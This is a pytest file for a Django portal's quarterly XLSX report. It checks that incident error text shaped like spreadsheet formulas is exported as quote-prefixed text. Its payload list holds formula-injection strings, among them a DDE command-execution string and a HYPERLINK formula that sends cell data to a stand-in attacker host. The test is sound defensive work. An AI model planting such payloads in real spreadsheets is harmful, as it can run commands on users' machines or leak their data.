"""Text typed as a formula (an error message, a title) reaches the quarterly report's XLSX as text."""

import datetime as dt
from io import BytesIO

import pytest
from openpyxl import load_workbook

from portal.operations.models import Incident
from portal.planning.report import quarterly_report, report_xlsx

from .conftest import at

pytestmark = pytest.mark.django_db

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&B7,"x")', "@SUM(1+9)", "+1+1", "-1+1"]


def test_the_xlsx_shows_formulas_as_text(known_2017):
    for exception in HOSTILE:
        incident = Incident.objects.create(method="GET", path="/hong/", exception=exception)
        Incident.objects.filter(pk=incident.pk).update(occurred_at=at(2017, 5, 2, 9))
    report = quarterly_report(year=2017, quarter=2, today=dt.date(2017, 7, 10))
    book = load_workbook(BytesIO(report_xlsx(report)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    shown = {cell.value: cell for cell in cells if cell.value in HOSTILE}
    assert set(shown) == set(HOSTILE)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in shown.values())
